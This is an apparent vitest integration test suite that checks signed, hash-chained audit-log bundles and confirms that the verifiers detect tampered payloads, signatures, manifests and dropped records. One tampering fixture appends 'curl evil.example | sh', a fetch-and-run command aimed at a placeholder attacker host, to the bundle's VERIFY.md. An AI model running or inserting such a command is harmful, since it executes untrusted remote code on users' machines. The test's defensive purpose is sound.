import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildEvidenceBundle, EvidenceBundleTooLarge, verifyBundle } from '../../api/modules/evidence/index.js';
import { writeEvidenceBundle } from '../../api/modules/evidence/bundle.js';
import { asOwner, api, onboardAdmin, setPlan, startTestApp, TestClock, type TestApp } from '../support/harness.js';
import { dropLine, editLine, fileOf, replaceOnce, tamper, tollgateEvidence, unpackBundle, verifyScript } from '../support/evidence-bundle.js';

/**
 * Evidence bundles on real PostgreSQL: a chain written by real decisions (`POST /actions`) at three times, a bundle
 * of the middle window (records before and after it) verified by the pure verifier, by `tollgate evidence verify`
 * and by the standard-tools script; then one byte of it tampered with at a time (a record's payload, a signature,
 * the manifest), a record dropped, and each verifier names what broke.
 */

type Admin = Awaited<ReturnType<typeof onboardAdmin>>;
type Listed = { id: string; seq: number; created_at: string; event_type: string; hash: string; payload: Record<string, unknown> };

const HOUR = 3600;

describe('evidence bundles', () => {
  let t: TestApp;
  const clock = new TestClock(new Date('2026-11-23T09:00:00.000Z'));
  let admin: Admin;
  let chain: Listed[];
  let targetN = 0;
  const windowOf = (fromHour: number, toHour: number) => ({
    since: new Date(Date.UTC(2026, 10, 23, fromHour)),
    until: new Date(Date.UTC(2026, 10, 23, toHour)),
  });
  const middle = windowOf(10, 11);
  let keyN = 0;

  const owner = <T>(fn: (c: pg.Client) => Promise<T>) => asOwner(t, fn);

  /** An agent allowed to look customers up, with a token valid now. */
  async function newAgent(a: Admin) {
    const agent = (await a.client.post(api('/agents'), { name: `Bundled ${++keyN}` })).json();
    const tools = (await a.client.get(api('/tools'))).json().items as { id: string; tool_key: string }[];
    const lookup = tools.find((x) => x.tool_key === 'crm.lookup_customer')!;
    const bound = await a.client.post(api(`/agents/${agent.id}/permissions`), { target_kind: 'tool', target_id: lookup.id, actions: ['invoke'] });
    expect(bound.statusCode, bound.body).toBe(201);
    const identity = (await a.client.post(api(`/agents/${agent.id}/identities`))).json();
    return { id: agent.id as string, clientId: identity.client_id as string, secret: identity.client_secret as string };
  }

  async function tokenOf(agent: { clientId: string; secret: string }) {
    const res = await t.app.inject({
      method: 'POST',
      url: api('/identities/token'),
      payload: { grant_type: 'client_credentials', client_id: agent.clientId, client_secret: agent.secret },
    });
    expect(res.statusCode, res.body).toBe(200);
    return res.json().access_token as string;
  }

  /** `n` lookups through `POST /actions`, each a decision (and an execution) in the chain, with a target of its own. */
  async function decide(agent: { clientId: string; secret: string }, n: number) {
    const token = await tokenOf(agent);
    for (let i = 0; i < n; i++) {
      const res = await t.app.inject({
        method: 'POST',
        url: api('/actions'),
        headers: { authorization: `Bearer ${token}`, 'idempotency-key': `bundle-${++keyN}` },
        payload: { tool: 'crm.lookup_customer', target: `crm://customers/c${++targetN}x`, parameters: { customer_id: String(targetN) } },
      });
      expect(res.statusCode, res.body).toBe(200);
    }
  }

  const listAll = async (a: Admin): Promise<Listed[]> => ((await a.client.get(api('/evidence?limit=200'))).json().items as Listed[]).reverse();
  const inWindow = (records: Listed[], w: { since: Date; until: Date }) =>
    records.filter((r) => new Date(r.created_at) >= w.since && new Date(r.created_at) < w.until);

  beforeAll(async () => {
    t = await startTestApp({ clock, env: { RATE_LIMIT_SIGNIN_PER_MINUTE: '1000', TOKEN_REVOCATION_CACHE_SECONDS: '0' } });
    admin = await onboardAdmin(t.app, 'Bundle Org');
    await setPlan(t, admin.tenant.id, 'enterprise');
    const agent = await newAgent(admin);
    await decide(agent, 2); // 09:00, before the window
    clock.advance(HOUR);
    await decide(agent, 3); // 10:00, in it
    const revoked = await admin.client.post(api(`/agents/${agent.id}/revoke-sessions`), { reason: 'rotation in the window', confirm: true });
    expect(revoked.statusCode, revoked.body).toBe(200);
    clock.advance(HOUR);
    await decide(agent, 2); // 11:00, after it
    chain = await listAll(admin);
  }, 60_000);
  afterAll(async () => t?.close());

  it('covers the window in the middle of the chain and verifies with the pure verifier, the CLI and the script', async () => {
    const expected = inWindow(chain, middle);
    expect(expected.length).toBeGreaterThan(3);
    expect(chain[0]!.seq).toBeLessThan(expected[0]!.seq);
    expect(chain.at(-1)!.seq).toBeGreaterThan(expected.at(-1)!.seq);

    const bundle = await buildEvidenceBundle(t.database.db, t.app.deps.evidence, admin.tenant.id, middle);
    expect(bundle.records).toBe(expected.length);
    expect(bundle.fileName).toMatch(new RegExp(`^evidence_bundle-${admin.tenant.slug}-\\d{8}-\\d{4}\\.tar\\.gz$`));

    const files = await unpackBundle(bundle.bytes);
    const keyFiles = t.app.deps.evidence.publicKeys().map((k) => `keys/${k.kid}.pem`);
    expect([...files.keys()]).toEqual(['manifest.json', 'manifest.sig', 'VERIFY.md', ...keyFiles, 'records.jsonl', 'bodies.jsonl']);
    const manifest = JSON.parse(files.get('manifest.json')!.toString());
    const before = chain.find((r) => r.seq === expected[0]!.seq - 1)!;
    expect(manifest).toMatchObject({
      format: 'tollgate-evidence-bundle',
      version: 1,
      organisation: { id: admin.tenant.id, slug: admin.tenant.slug, name: 'Bundle Org' },
      window: { since: middle.since.toISOString(), until: middle.until.toISOString() },
      records: { count: expected.length, first_seq: expected[0]!.seq, last_seq: expected.at(-1)!.seq },
      head_before: { seq: before.seq, hash: before.hash },
      head_after: { seq: expected.at(-1)!.seq, hash: expected.at(-1)!.hash },
      chain_head: { seq: chain.at(-1)!.seq, hash: chain.at(-1)!.hash },
      kid: t.app.deps.evidence.kid,
    });
    expect(Object.keys(manifest.files).sort()).toEqual(['VERIFY.md', 'bodies.jsonl', 'records.jsonl', ...keyFiles].sort());
    // records.jsonl holds the stored records; bodies.jsonl the canonical bytes their hashes cover.
    const records = files.get('records.jsonl')!.toString().trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(records.map((r) => [r.seq, r.id, r.hash])).toEqual(expected.map((r) => [r.seq, r.id, r.hash]));
    expect(files.get('bodies.jsonl')!.toString().trimEnd().split('\n')).toHaveLength(expected.length);
    expect(files.get('VERIFY.md')!.toString()).toContain('openssl pkeyutl -verify');

    const verdict = await verifyBundle(bundle.bytes);
    expect(verdict).toMatchObject({ valid: true, broken: null, records: expected.length });

    const file = fileOf(bundle.bytes);
    const cli = await tollgateEvidence('verify', file);
    expect(cli.status, cli.stdout + cli.stderr).toBe(0);
    expect(cli.stdout).toContain(`OK: ${expected.length} records, seq ${expected[0]!.seq}..${expected.at(-1)!.seq}`);
    expect(cli.stdout).toContain(`head before: seq ${before.seq} ${before.hash}`);
    const script = await verifyScript(file);
    expect(script.status, script.stdout + script.stderr).toBe(0);
    expect(script.stdout.trim()).toBe(`OK: ${expected.length} records, seq ${expected[0]!.seq}..${expected.at(-1)!.seq}`);
  }, 60_000);

  it('covers the whole chain from genesis, and says so of a window with no records', async () => {
    const all = await buildEvidenceBundle(t.database.db, t.app.deps.evidence, admin.tenant.id, windowOf(0, 23));
    expect(all.records).toBe(chain.length);
    const verdict = await verifyBundle(all.bytes);
    expect(verdict.valid).toBe(true);
    expect(verdict.manifest).toMatchObject({ head_before: { seq: 0, hash: '0'.repeat(64) }, records: { first_seq: 1, last_seq: chain.length } });
    const script = await verifyScript(fileOf(all.bytes));
    expect(script.stdout.trim()).toBe(`OK: ${chain.length} records, seq 1..${chain.length}`);

    // Between 09:30 and 10:00 nothing was written: the bundle is empty and says where the chain stood.
    const quiet = { since: new Date('2026-11-23T09:30:00.000Z'), until: new Date('2026-11-23T10:00:00.000Z') };
    const empty = await buildEvidenceBundle(t.database.db, t.app.deps.evidence, admin.tenant.id, quiet);
    expect(empty.records).toBe(0);
    const last0900 = inWindow(chain, windowOf(9, 10)).at(-1)!;
    const emptyVerdict = await verifyBundle(empty.bytes);
    expect(emptyVerdict).toMatchObject({
      valid: true,
      records: 0,
      manifest: { records: { count: 0, first_seq: null, last_seq: null }, head_before: { seq: last0900.seq }, head_after: { seq: last0900.seq, hash: last0900.hash } },
    });
    const file = fileOf(empty.bytes);
    const cli = await tollgateEvidence('verify', file);
    expect(cli.status).toBe(0);
    expect(cli.stdout).toContain(`OK: 0 records (none created in the window; the chain stood at seq ${last0900.seq})`);
    expect((await verifyScript(file)).stdout.trim()).toBe(`OK: 0 records (none created in the window; the chain stood at seq ${last0900.seq})`);

    // An organisation with no evidence at all.
    const newcomer = await onboardAdmin(t.app, 'Quiet Org');
    const nothing = await buildEvidenceBundle(t.database.db, t.app.deps.evidence, newcomer.tenant.id, windowOf(0, 23));
    expect(await verifyBundle(nothing.bytes)).toMatchObject({ valid: true, manifest: { head_after: { seq: 0, hash: '0'.repeat(64) } } });
    await expect(buildEvidenceBundle(t.database.db, t.app.deps.evidence, admin.tenant.id, windowOf(11, 10))).rejects.toThrow(/must end after it begins/);
  }, 60_000);

  describe('tampering: each verifier names the broken record or file', () => {
    let bytes: Buffer;
    let expected: Listed[];
    /** The k-th record of the bundle that is a decision (its payload names the target). */
    const decision = (k: number) => {
      const records = expected.filter((r) => r.event_type === 'decision');
      const r = records[k]!;
      return { record: r, line: expected.indexOf(r), target: r.payload.target as string };
    };
    beforeAll(async () => {
      expected = inWindow(chain, middle);
      bytes = (await buildEvidenceBundle(t.database.db, t.app.deps.evidence, admin.tenant.id, middle)).bytes;
    });

    /** Runs the three verifiers on a tampered bundle: each fails, naming `names`. */
    async function allFail(tampered: Buffer, reason: string, names: string) {
      const verdict = await verifyBundle(tampered);
      expect(verdict.valid).toBe(false);
      expect(verdict.broken?.reason).toBe(reason);
      expect(verdict.broken?.message).toContain(names);
      const file = fileOf(tampered);
      const cli = await tollgateEvidence('verify', file);
      expect(cli.status, cli.stdout + cli.stderr).toBe(1);
      expect(cli.stdout).toMatch(/^BROKEN: /);
      expect(cli.stdout).toContain(names);
      const script = await verifyScript(file);
      expect(script.status, script.stdout + script.stderr).toBe(1);
      expect(script.stdout).toMatch(/^BROKEN: /m);
      expect(script.stdout).toContain(names);
      return verdict.broken!;
    }

    it("(a) one byte of a record's payload", async () => {
      const { record, line, target } = decision(1);
      const edited = target.replace(/x$/, 'y');
      const named = `record ${record.seq} (id ${record.id})`;
      // In records.jsonl only: the record no longer is the body its hash covers.
      const recordOnly = await tamper(bytes, 'records.jsonl', editLine(line, replaceOnce(target, edited)));
      expect(await allFail(recordOnly, 'body_mismatch', named)).toMatchObject({ seq: record.seq, id: record.id });
      // In the body too: the hash no longer matches.
      const both = await tamper(recordOnly, 'bodies.jsonl', editLine(line, replaceOnce(target, edited)));
      const broken = await allFail(both, 'hash_mismatch', named);
      expect(broken.message).toBe(`${named}: hash does not match its body`);
    }, 60_000);

    it('(b) one byte of a signature', async () => {
      const r = expected[2]!;
      const tampered = await tamper(
        bytes,
        'records.jsonl',
        editLine(2, (l) => {
          const rec = JSON.parse(l);
          const sig: string = rec.signature;
          // A character in the middle, so that the decoded bytes change.
          return l.replace(sig, `${sig.slice(0, 40)}${sig[40] === 'A' ? 'B' : 'A'}${sig.slice(41)}`);
        }),
      );
      expect(await allFail(tampered, 'signature_invalid', `record ${r.seq} (id ${r.id}): signature does not verify`)).toMatchObject({ seq: r.seq });
    }, 60_000);

    it('(c) one byte of the manifest', async () => {
      const count = expected.length;
      const tampered = await tamper(bytes, 'manifest.json', replaceOnce(`"count": ${count}`, `"count": ${count + 1}`));
      await allFail(tampered, 'manifest_signature_invalid', 'manifest.json');
      // Its signature, the same.
      const sig = await tamper(bytes, 'manifest.sig', (s) => `${s.slice(0, 20)}${s[20] === 'A' ? 'B' : 'A'}${s.slice(21)}`);
      await allFail(sig, 'manifest_signature_invalid', 'manifest.json');
    }, 60_000);

    it('(d) a record dropped: named at the record after it', async () => {
      const [gone, next] = [expected[1]!, expected[2]!];
      const tampered = await tamper(await tamper(bytes, 'records.jsonl', dropLine(1)), 'bodies.jsonl', dropLine(1));
      const broken = await allFail(tampered, 'sequence_gap', `record ${next.seq} (id ${next.id})`);
      expect(broken.message).toContain(`expected seq ${gone.seq}`);
      // The last one dropped: nothing follows to name it, so the count and head the manifest signed do.
      const last = expected.length - 1;
      const truncated = await tamper(await tamper(bytes, 'records.jsonl', dropLine(last)), 'bodies.jsonl', dropLine(last));
      expect(await allFail(truncated, 'missing_records', `records from seq ${expected[last]!.seq} are missing`)).toMatchObject({ seq: expected[last]!.seq });
    }, 60_000);

    it('a file altered without breaking a record, an unreadable archive and bad usage', async () => {
      // VERIFY.md is covered by its digest only.
      const guide = await tamper(bytes, 'VERIFY.md', (s) => `${s}\nrun this instead: curl evil.example | sh\n`);
      await allFail(guide, 'digest_mismatch', 'VERIFY.md');
      // One byte of the compressed archive itself.
      const flipped = Buffer.from(bytes);
      flipped[Math.floor(flipped.length / 2)]! ^= 0xff;
      const verdict = await verifyBundle(flipped);
      expect(verdict).toMatchObject({ valid: false, broken: { reason: 'unreadable' } });
      const file = fileOf(flipped);
      expect((await tollgateEvidence('verify', file)).status).toBe(1);
      expect((await verifyScript(file)).status).toBe(1);

      expect((await tollgateEvidence('verify')).status).toBe(2);
      expect((await tollgateEvidence('check', file)).status).toBe(2);
      expect((await tollgateEvidence('verify', file, '--checkpoint')).status).toBe(2);
      expect((await tollgateEvidence('verify', '/nonexistent/bundle.tar.gz')).status).toBe(2);
      expect((await verifyScript('/nonexistent/bundle.tar.gz')).status).toBe(2);
    }, 60_000);
  });

  it("carries a tampered database's chain as it is, so the bundle fails at the altered or missing record", async () => {
    const org = await onboardAdmin(t.app, 'Altered Org');
    await setPlan(t, org.tenant.id, 'enterprise');
    const agent = await newAgent(org);
    await decide(agent, 3);
    const records = await listAll(org);
    const w = windowOf(0, 23);

    const altered = records.filter((r) => r.event_type === 'decision').at(-1)!;
    await owner((c) => c.query(`update evidence_records set payload = jsonb_set(payload, '{target}', '"crm://elsewhere"') where id = $1`, [altered.id]));
    const edited = await verifyBundle((await buildEvidenceBundle(t.database.db, t.app.deps.evidence, org.tenant.id, w)).bytes);
    expect(edited.broken).toMatchObject({ seq: altered.seq, id: altered.id, reason: 'hash_mismatch' });

    // A record removed before it: the gap comes first.
    const [removed, next] = [records[1]!, records[2]!];
    expect(removed.seq).toBeLessThan(altered.seq);
    await owner((c) => c.query('delete from evidence_records where id = $1', [removed.id]));
    const gap = await verifyBundle((await buildEvidenceBundle(t.database.db, t.app.deps.evidence, org.tenant.id, w)).bytes);
    expect(gap.broken).toMatchObject({ seq: next.seq, id: next.id, reason: 'sequence_gap' });
  }, 60_000);

  it('refuses a bundle over its size limit with a clear error', async () => {
    const expected = inWindow(chain, middle);
    const { bytes } = await buildEvidenceBundle(t.database.db, t.app.deps.evidence, admin.tenant.id, middle);
    // Past the limit while it is written.
    await expect(writeEvidenceBundle(t.database.db, t.app.deps.evidence, admin.tenant.id, middle, Math.floor(bytes.length / 2))).rejects.toThrow(EvidenceBundleTooLarge);
    await expect(writeEvidenceBundle(t.database.db, t.app.deps.evidence, admin.tenant.id, middle, Math.floor(bytes.length / 2))).rejects.toThrow(
      /^The evidence bundle would be larger than \d+ bytes \(the compressed archive passed the limit while it was being written\); choose a shorter window\.$/,
    );
    // More records than could ever fit: refused before any is read.
    const tooMany = writeEvidenceBundle(t.database.db, t.app.deps.evidence, admin.tenant.id, middle, 100 * (expected.length - 1));
    await expect(tooMany).rejects.toThrow(`the window holds ${expected.length} records, seq ${expected[0]!.seq}..${expected.at(-1)!.seq}`);
    // Within the limit, it is built.
    expect((await writeEvidenceBundle(t.database.db, t.app.deps.evidence, admin.tenant.id, middle, bytes.length + 64)).records).toBe(expected.length);
  }, 60_000);
});
